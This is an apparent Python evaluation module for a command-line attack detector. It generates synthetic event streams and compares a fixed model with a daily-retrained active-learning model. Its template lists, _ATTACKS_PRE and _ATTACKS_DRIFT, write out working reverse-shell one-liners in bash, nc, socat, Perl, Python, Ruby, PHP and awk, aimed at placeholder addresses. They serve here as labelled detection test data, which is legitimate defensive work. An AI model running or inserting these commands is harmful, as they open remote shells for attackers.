"""Desk-scale evaluation machinery: dataset-size studies, the fixed-vs-active
A/B drift experiment, rolling precision, and funnel volume reports.

Streams carry hidden ground truth injected at generation time; the arms see
labels only through simulated analyst verdicts on their own tickets.
"""

from __future__ import annotations

import logging
import random
from dataclasses import dataclass, field
from typing import Optional, Sequence

import numpy as np

from cmdsift import classifier as clf
from cmdsift import core, trainer
from cmdsift.calibrate import max_f1
from cmdsift.core import Event, Label, LabeledSample, Origin, Verdict
from cmdsift.rules import CompiledRule, evaluate
from cmdsift.store import DayCounters
from cmdsift.trainer import DecayPolicy
from cmdsift.vectorize import VectorizerConfig, template_key, to_csr, vectorize

logger = logging.getLogger(__name__)

MS_PER_DAY = core.MS_PER_DAY

# Production-scale daily volumes reported for the original deployment.
# Reference constants for side-by-side display only: NOT reproducible at
# desk scale and never asserted.
REFERENCE_DAILY_VOLUMES = {
    "reverse_shell": {"raw": 2.5e11, "filter": 7e4, "inference": 5.0, "tickets": 4.8e-1},
    "hacking_tools": {"raw": 2.5e11, "filter": 5e2, "inference": 1.0, "tickets": 2.2e-1},
    "lotl": {"raw": 6e9, "filter": 2e3, "inference": 8e-1, "tickets": 1.5e-1},
}


# ---------------------------------------------------------------------------
# rolling precision
# ---------------------------------------------------------------------------


def rolling_precision(verdicts: Sequence[Verdict], window: int) -> list[tuple[int, float]]:
    """At each verdict: escalated fraction over the trailing `window` verdicts."""
    if window < 1:
        raise ValueError("window must be >= 1")
    out: list[tuple[int, float]] = []
    history: list[bool] = []
    for v in verdicts:
        history.append(v.decision is core.Decision.ESCALATED)
        tail = history[-window:]
        out.append((v.decided_at_ms, sum(tail) / len(tail)))
    return out


# ---------------------------------------------------------------------------
# funnel report
# ---------------------------------------------------------------------------


@dataclass(frozen=True)
class FunnelReport:
    scenario_id: str
    span_days: float
    raw_per_day: float
    filter_per_day: float
    inference_per_day: float
    tickets_per_day: float

    def rows(self) -> list[tuple[str, float]]:
        return [
            ("raw_events", self.raw_per_day),
            ("filter_hits", self.filter_per_day),
            ("above_threshold", self.inference_per_day),
            ("tickets_created", self.tickets_per_day),
        ]

    def format_table(self) -> str:
        lines = [f"scenario {self.scenario_id}: average daily volume over {self.span_days:g} days"]
        reference = REFERENCE_DAILY_VOLUMES.get(self.scenario_id)
        ref_keys = ["raw", "filter", "inference", "tickets"]
        for (name, value), ref_key in zip(self.rows(), ref_keys):
            line = f"  {name:<16} {value:>12.3g}"
            if reference:
                line += f"   (production reference {reference[ref_key]:.2g}; not reproducible)"
            lines.append(line)
        return "\n".join(lines)


def funnel_report(
    counters: dict[int, DayCounters], span_days: float, scenario_id: str = ""
) -> FunnelReport:
    if span_days <= 0:
        raise ValueError("span_days must be > 0")
    total = DayCounters()
    for c in counters.values():
        total.raw_events += c.raw_events
        total.filter_hits += c.filter_hits
        total.above_threshold += c.above_threshold
        total.tickets_created += c.tickets_created
    return FunnelReport(
        scenario_id=scenario_id,
        span_days=span_days,
        raw_per_day=total.raw_events / span_days,
        filter_per_day=total.filter_hits / span_days,
        inference_per_day=total.above_threshold / span_days,
        tickets_per_day=total.tickets_created / span_days,
    )


# ---------------------------------------------------------------------------
# dataset size study
# ---------------------------------------------------------------------------


def dataset_size_study(
    synthetic: Sequence[LabeledSample],
    sizes: Sequence[int],
    eval_set: Sequence[LabeledSample],
    vec_config: VectorizerConfig,
    clf_config: clf.ClassifierConfig,
    seed: int = 0,
) -> list[tuple[int, float]]:
    """Train on balanced subsamples of increasing size; report max F1 on the
    held-out set per size."""
    if list(sizes) != sorted(sizes):
        raise ValueError("sizes must be ascending")
    if sizes and max(sizes) > len(synthetic):
        raise ValueError(f"size {max(sizes)} exceeds dataset size {len(synthetic)}")
    rng = random.Random(seed)
    pos = [s for s in synthetic if s.label is Label.POSITIVE]
    neg = [s for s in synthetic if s.label is Label.NEGATIVE]
    eval_X = to_csr([vectorize(vec_config, s.command_line) for s in eval_set])
    eval_labeled_truth = [s.label is Label.POSITIVE for s in eval_set]

    results: list[tuple[int, float]] = []
    for size in sizes:
        take_pos = min(len(pos), max(1, size // 2))
        take_neg = min(len(neg), max(1, size - take_pos))
        subsample = rng.sample(pos, take_pos) + rng.sample(neg, take_neg)
        X = to_csr([vectorize(vec_config, s.command_line) for s in subsample])
        y = np.array([1.0 if s.label is Label.POSITIVE else 0.0 for s in subsample])
        w = np.ones(len(subsample))
        model = clf.train(clf_config, (X, y, w))
        scores = clf.score_matrix(model, eval_X)
        labeled = [(float(s), t) for s, t in zip(scores, eval_labeled_truth)]
        results.append((size, max_f1(labeled)))
    return results


# ---------------------------------------------------------------------------
# synthetic event streams with hidden ground truth
# ---------------------------------------------------------------------------

# Benign background noise: never matches the loose rule.
_NOISE = [
    "ls -la /var/www",
    "df -h",
    "tar czf /backup/home-{n}.tar.gz /home",
    "git status",
    "make -j4",
    "ps aux | grep java",
    "cat /etc/hosts",
    "du -sh /var/log",
    "uptime",
    "whoami",
]

# Benign commands that legitimately trip the loose rule (Stage-1 false
# positives): part of the training distribution, the model suppresses them.
_HARD_BENIGN = [
    'bash -c "echo > /dev/tcp/{host}/{port}" 2>/dev/null && echo "Port {port} is open"',
    '/bin/sh -c "nc -6 -vz -w 10 {host} {port}"',
    "socat TCP-LISTEN:{port},fork STDOUT",
    "/bin/sh -c \"socat TCP6-LISTEN:{port},end-close,shut-none,fork EXEC:'cat'\"",
    'perl -n -e "/inet ([^\\/]+).* scope global/ && print $1 and exit"',
    "python3 -c import sys, pty if pty.spawn(sys.argv[1:]) != 0: sys.exit(1) test",
]

# Attack templates drawn from the same technique families as the synthetic
# training set.
_ATTACKS_PRE = [
    "nc {ip} {port} -e /bin/sh",
    "sh -i >& /dev/tcp/{ip}/{port} 0>&1",
    "bash -c 'bash -i >& /dev/tcp/{ip}/{port} 0>&1'",
    "socat TCP:{ip}:{port} EXEC:'/bin/sh'",
    "perl -MIO::Socket::INET -e '$c=new IO::Socket::INET(PeerAddr,\"{ip}:{port}\");"
    "while(<$c>){{system $_;}}'",
    "python3 -c \"import socket,os,pty;s=socket.socket();s.connect(('{ip}',{port}));"
    "[os.dup2(s.fileno(),f)for f in(0,1,2)];pty.spawn('sh')\"",
]

# Post-drift attacks: technique families absent from the training set but
# still inside the loose rule's reach.
_ATTACKS_DRIFT = [
    "awk 'BEGIN{{s=\"/inet/tcp/0/{ip}/{port}\";while(1){{printf \"sh>\" |& s;"
    "if((s |& getline c)<=0)break;system(c)}}}}'",
    "python3 -c \"import socket,subprocess;s=socket.socket();s.bind(('0.0.0.0',{port}));"
    "s.listen(1);c,a=s.accept();subprocess.call(['/bin/sh','-i'],stdin=c.fileno(),"
    "stdout=c.fileno())\"",
    "ruby -rsocket -e 'f=TCPSocket.open(\"{ip}\",{port}).to_i;"
    "exec sprintf(\"/bin/sh -i <&%d >&%d 2>&%d\",f,f,f)'",
    "php -r '$s=socket_create(AF_INET,SOCK_STREAM,SOL_TCP);socket_connect($s,\"{ip}\",{port});"
    "exec(\"/bin/sh -i\");'",
]

# Post-drift benign: red-team canary and detection-test tooling that embeds
# real attack payload text inside a clearly benign wrapper. The fixed model
# keeps flagging every variant; the active arm learns the wrapper tokens
# from false-positive verdicts.
_BENIGN_DRIFT = [
    "ktd-canary run --check {n} --probe 'sh >& /dev/tcp/{ip}/53 0>&1' --dry-run --report-only",
    "kubectl run --restart=Never --rm=true -i --image ubuntu:latest canary-{n} "
    "-- bash -c 'cp /bin/echo /tmp/sh; /tmp/sh >& /dev/tcp/{ip}/53 0>&1'",
    "audit-sim exec --scenario shell-callback --emit \"bash -i >& /dev/tcp/{ip}/{port} 0>&1\" "
    "--no-send --review-ticket {n}",
    "python3 /opt/tools/netprobe.py --connect {host}:{port} --pty-log /var/log/netprobe/run-{n}.log",
]


@dataclass(frozen=True)
class StreamSpec:
    days: int = 30
    events_per_day: int = 200
    malicious_rate: float = 0.02
    hard_benign_rate: float = 0.10
    drift_day: Optional[int] = None
    drift_benign_rate: float = 0.08
    start_ms: int = 1_750_000_000_000


def make_stream(spec: StreamSpec, seed: int) -> list[tuple[Event, bool]]:
    """Seeded event stream with hidden ground truth (True = attack)."""
    rng = random.Random(seed)
    out: list[tuple[Event, bool]] = []
    counter = 0
    base_ms = (spec.start_ms // MS_PER_DAY) * MS_PER_DAY  # day-aligned
    for day in range(spec.days):
        drifted = spec.drift_day is not None and day >= spec.drift_day
        for i in range(spec.events_per_day):
            ts = base_ms + day * MS_PER_DAY + (i * MS_PER_DAY) // spec.events_per_day
            roll = rng.random()
            if roll < spec.malicious_rate:
                bank = _ATTACKS_DRIFT if drifted else _ATTACKS_PRE
                template, truth = rng.choice(bank), True
            elif drifted and roll < spec.malicious_rate + spec.drift_benign_rate:
                template, truth = rng.choice(_BENIGN_DRIFT), False
            elif roll < spec.malicious_rate + spec.drift_benign_rate + spec.hard_benign_rate:
                template, truth = rng.choice(_HARD_BENIGN), False
            else:
                template, truth = rng.choice(_NOISE), False
            command = template.format(
                ip=f"10.{rng.randint(0, 255)}.{rng.randint(0, 255)}.{rng.randint(1, 254)}",
                port=rng.choice([53, 443, 1337, 4444, 8080, 8443, 9001]),
                host=rng.choice(["db.internal", "cache02", "build01", "api.corp"]),
                n=rng.randint(1, 99),
            )
            counter += 1
            out.append(
                (
                    Event(
                        event_id=f"s{seed}-e{counter}",
                        timestamp_ms=ts,
                        host=f"host-{rng.randint(1, 40)}",
                        user=rng.choice(["root", "alice", "bob", "svc-web"]),
                        process="bash",
                        command_line=command,
                    ),
                    truth,
                )
            )
    return out


# ---------------------------------------------------------------------------
# fixed vs. active A/B experiment
# ---------------------------------------------------------------------------


@dataclass(frozen=True)
class AbResult:
    tp_only_active: int
    tp_only_fixed: int
    tp_shared: int
    fp_only_active: int
    fp_only_fixed: int
    fp_shared: int

    def format_table(self) -> str:
        return (
            "                         true positives   false positives\n"
            f"  only active learning   {self.tp_only_active:>14}   {self.fp_only_active:>15}\n"
            f"  only fixed model       {self.tp_only_fixed:>14}   {self.fp_only_fixed:>15}\n"
            f"  shared by both         {self.tp_shared:>14}   {self.fp_shared:>15}"
        )


@dataclass
class ArmState:
    name: str
    artifact: core.ModelArtifact
    model: clf.TrainedModel
    feedback: list[LabeledSample] = field(default_factory=list)
    verdicts: list[Verdict] = field(default_factory=list)
    detected: set[str] = field(default_factory=set)  # distinct commands, post-bootstrap
    history: list[tuple[str, int]] = field(default_factory=list)


@dataclass
class AbOutcome:
    result: AbResult
    fixed_f1_post: float
    active_f1_post: float
    fixed_f1_series: list[float]
    active_f1_series: list[float]
    active_precision_series: list[tuple[int, float]]


def _f1(detected: set[str], truths: dict[str, bool]) -> float:
    tp = sum(1 for c in detected if truths.get(c))
    fp = len(detected) - tp
    fn = sum(1 for c, t in truths.items() if t and c not in detected)
    denom = 2 * tp + fp + fn
    return 2 * tp / denom if denom else 0.0


def ab_experiment(
    synthetic: Sequence[LabeledSample],
    stream: Sequence[tuple[Event, bool]],
    rules: Sequence[CompiledRule],
    scenario: core.DetectionScenario,
    vec_config: VectorizerConfig,
    clf_config: clf.ClassifierConfig,
    bootstrap_days: int,
    *,
    history_span_days: float = 30.0,
    triage_per_day: Optional[int] = None,
    compare_from_day: Optional[int] = None,
) -> AbOutcome:
    """Simulate a never-retrained arm and a daily-retrained arm over one
    stream; verdicts for the active arm are auto-generated from the hidden
    ground truth. Detection sets are compared per distinct command line
    after the bootstrap period."""
    if not stream:
        raise ValueError("empty stream")
    days = {e.timestamp_ms // MS_PER_DAY for e, _ in stream}
    if len(days) <= bootstrap_days:
        raise ValueError(f"stream spans {len(days)} days, not longer than bootstrap {bootstrap_days}")

    setup = trainer.retrain_cycle(
        scenario,
        list(synthetic),
        [],
        [],
        None,
        now_ms=min(e.timestamp_ms for e, _ in stream) - 1,
        vec_config=vec_config,
        clf_config=clf_config,
        history_span_days=history_span_days,
    )
    fixed = ArmState("fixed", setup.artifact, setup.model)
    active = ArmState("active", setup.artifact, setup.model)
    policy = DecayPolicy(horizon_days=scenario.decay_horizon_days, ratio=scenario.feedback_ratio)

    day0 = min(days)
    compare_day = day0 + bootstrap_days if compare_from_day is None else compare_from_day
    truths: dict[str, bool] = {}
    day_truths: dict[int, dict[str, bool]] = {}
    day_detected: dict[str, dict[int, set[str]]] = {"fixed": {}, "active": {}}

    by_day: dict[int, list[tuple[Event, bool]]] = {}
    for event, truth in stream:
        by_day.setdefault(event.timestamp_ms // MS_PER_DAY, []).append((event, truth))

    for day in sorted(by_day):
        candidates: dict[str, tuple[float, Event, bool]] = {}
        for event, truth in by_day[day]:
            hit = any(evaluate(rule, event.command_line).matched for rule in rules)
            if not hit:
                continue
            vec = vectorize(vec_config, event.command_line)
            in_window = day >= compare_day
            for arm in (fixed, active):
                s = clf.score(arm.model, vec)
                if arm is active:
                    arm.history.append((event.command_line, event.timestamp_ms))
                    if s >= arm.artifact.threshold:
                        key = template_key(event.command_line)
                        prev = candidates.get(key)
                        if prev is None or s > prev[0]:
                            candidates[key] = (s, event, truth)
                detected = s >= arm.artifact.threshold
                if in_window:
                    if detected:
                        arm.detected.add(event.command_line)
                        day_detected[arm.name].setdefault(day, set()).add(event.command_line)
                    truths[event.command_line] = truth
                    day_truths.setdefault(day, {})[event.command_line] = truth

        # Simulated triage at end of day: highest scores first.
        day_end_ms = (day + 1) * MS_PER_DAY - 1
        ranked = sorted(candidates.values(), key=lambda c: -c[0])
        if triage_per_day is not None:
            ranked = ranked[:triage_per_day]
        for s, event, truth in ranked:
            decision = core.Decision.ESCALATED if truth else core.Decision.FALSE_POSITIVE
            active.verdicts.append(
                Verdict(
                    ticket_id=f"ab-{event.event_id}",
                    decision=decision,
                    analyst="sim",
                    decided_at_ms=day_end_ms,
                )
            )
            active.feedback.append(
                LabeledSample(
                    command_line=event.command_line,
                    label=Label.POSITIVE if truth else Label.NEGATIVE,
                    origin=Origin.FEEDBACK,
                    labeled_at_ms=day_end_ms,
                    source_ticket=f"ab-{event.event_id}",
                )
            )

        # Daily retrain for the active arm only.
        since = day_end_ms - int(history_span_days * MS_PER_DAY)
        active.history = [(c, ts) for c, ts in active.history if ts >= since]
        try:
            result = trainer.retrain_cycle(
                scenario,
                list(synthetic),
                active.feedback,
                active.history,
                active.artifact,
                now_ms=day_end_ms + 1,
                vec_config=vec_config,
                clf_config=clf_config,
                history_span_days=history_span_days,
            )
            active.artifact, active.model = result.artifact, result.model
        except (trainer.AssemblyError, clf.TrainingError):
            logger.warning("active-arm retrain failed on day %d; keeping prior model", day)

    tp_a = {c for c in active.detected if truths.get(c)}
    tp_f = {c for c in fixed.detected if truths.get(c)}
    fp_a = {c for c in active.detected if not truths.get(c)}
    fp_f = {c for c in fixed.detected if not truths.get(c)}
    result = AbResult(
        tp_only_active=len(tp_a - tp_f),
        tp_only_fixed=len(tp_f - tp_a),
        tp_shared=len(tp_a & tp_f),
        fp_only_active=len(fp_a - fp_f),
        fp_only_fixed=len(fp_f - fp_a),
        fp_shared=len(fp_a & fp_f),
    )
    fixed_series, active_series = [], []
    for day in sorted(day_truths):
        fixed_series.append(_f1(day_detected["fixed"].get(day, set()), day_truths[day]))
        active_series.append(_f1(day_detected["active"].get(day, set()), day_truths[day]))
    return AbOutcome(
        result=result,
        fixed_f1_post=_f1(fixed.detected, truths),
        active_f1_post=_f1(active.detected, truths),
        fixed_f1_series=fixed_series,
        active_f1_series=active_series,
        active_precision_series=rolling_precision(active.verdicts, 100),
    )
